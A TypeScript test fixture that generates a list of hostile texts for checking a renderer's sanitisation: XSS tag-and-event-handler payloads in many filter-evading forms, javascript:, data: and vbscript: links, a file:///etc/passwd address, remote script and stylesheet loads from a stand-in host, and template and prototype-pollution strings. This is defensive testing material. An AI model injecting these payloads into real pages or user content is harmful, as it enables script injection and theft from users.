/**
 * Texts that would run, load or break something if any of it were taken for HTML, an address or a style: the well-known
 * ways in, each in every dress that filters are known to miss. Data made by rule, so that none is forgotten.
 */

/** Sets the page's title, which tests look at. */
const act = "document.title='broken'";
const foreign = "https://foreign.example/x";

const tags = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "iframe onload",
  "input autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "video src=x onerror",
  "audio src=x onerror",
  "details open ontoggle",
  "marquee onstart",
  "object data=x onerror",
  "embed src=x onload",
  "a href=x onmouseover",
  "math onclick",
  "style onload",
  "link rel=stylesheet href=x onerror",
  "form onsubmit",
  "button onclick",
  "div onpointerenter",
];

/** How an opening tag can be written so that something still reads it. */
const dresses: ((tag: string) => string)[] = [
  (tag) => `<${tag}=${act}>`,
  (tag) => `<${tag}="${act}"/>`,
  (tag) => `<${tag.toUpperCase()}=${act}>`,
  (tag) => `"><${tag}=${act}>`,
  (tag) => `'><${tag}=${act}>`,
  (tag) => `</p></li></ol><${tag}=${act}>`,
  (tag) => `<${tag.replace(" ", "/")}=${act}>`,
  (tag) => `<${tag.replace(" ", "\t\n")}=${act}//`,
  (tag) => `<<${tag}=${act}>>`,
  (tag) => `&lt;${tag}=${act}&gt;`,
  (tag) => `\u0000<${tag}=${act}>`.replace("\u0000", "\uFEFF"),
  (tag) => `**<${tag}=${act}>**`,
];

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  ` javascript:${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  `vbscript:${act}`,
  "blob:null/x",
  "file:///etc/passwd",
  "//foreign.example/x",
  `https://foreign.example/" onmouseover="${act}`,
  `https://foreign.example/'><img src=x onerror=${act}>`,
];

const linked: ((address: string) => string)[] = [
  (address) => `[words](${address})`,
  (address) => `[words](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `![words](${address})`,
  (address) => `<a href="${address}">words</a>`,
  (address) => `||[words](${address})||`,
];

const others = [
  `<script>${act}</script>`,
  `<script src=${foreign}></script>`,
  `<scr<script>ipt>${act}</script>`,
  `</script><script>${act}</script>`,
  `<!--><script>${act}</script>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  "<style>*{display:none}</style>",
  `<style>@import '${foreign}';</style>`,
  `<link rel=stylesheet href=${foreign}>`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<base href=${foreign}>`,
  `<img src=${foreign}>`,
  `<picture><source srcset=${foreign}></picture>`,
  `<div style="background:url(${foreign})">`,
  `<template><img src=x onerror=${act}></template>`,
  `<svg><use href="${foreign}#x"></use></svg>`,
  `<svg><animate onbegin=${act} attributeName=x></svg>`,
  "{{constructor.constructor('document.title=1')()}}",
  "${document.title='broken'}",
  "__proto__",
  "constructor",
  "]]>\u202E<b>txt.exe",
  "```html\n<img src=x onerror=document.title='broken'>\n```",
  "`<img src=x onerror=document.title='broken'>`",
  "<:x\" onerror=\"document.title='broken':123456789012345678>",
  "<t:99999999999999999:F><t:-1:R>",
  "<@!123456789012345678\"><img src=x onerror=document.title='broken'>",
];

export const hostileTexts: readonly string[] = [
  ...tags.flatMap((tag) => dresses.map((dress) => dress(tag))),
  ...addresses.flatMap((address) => linked.map((link) => link(address))),
  ...others,
];
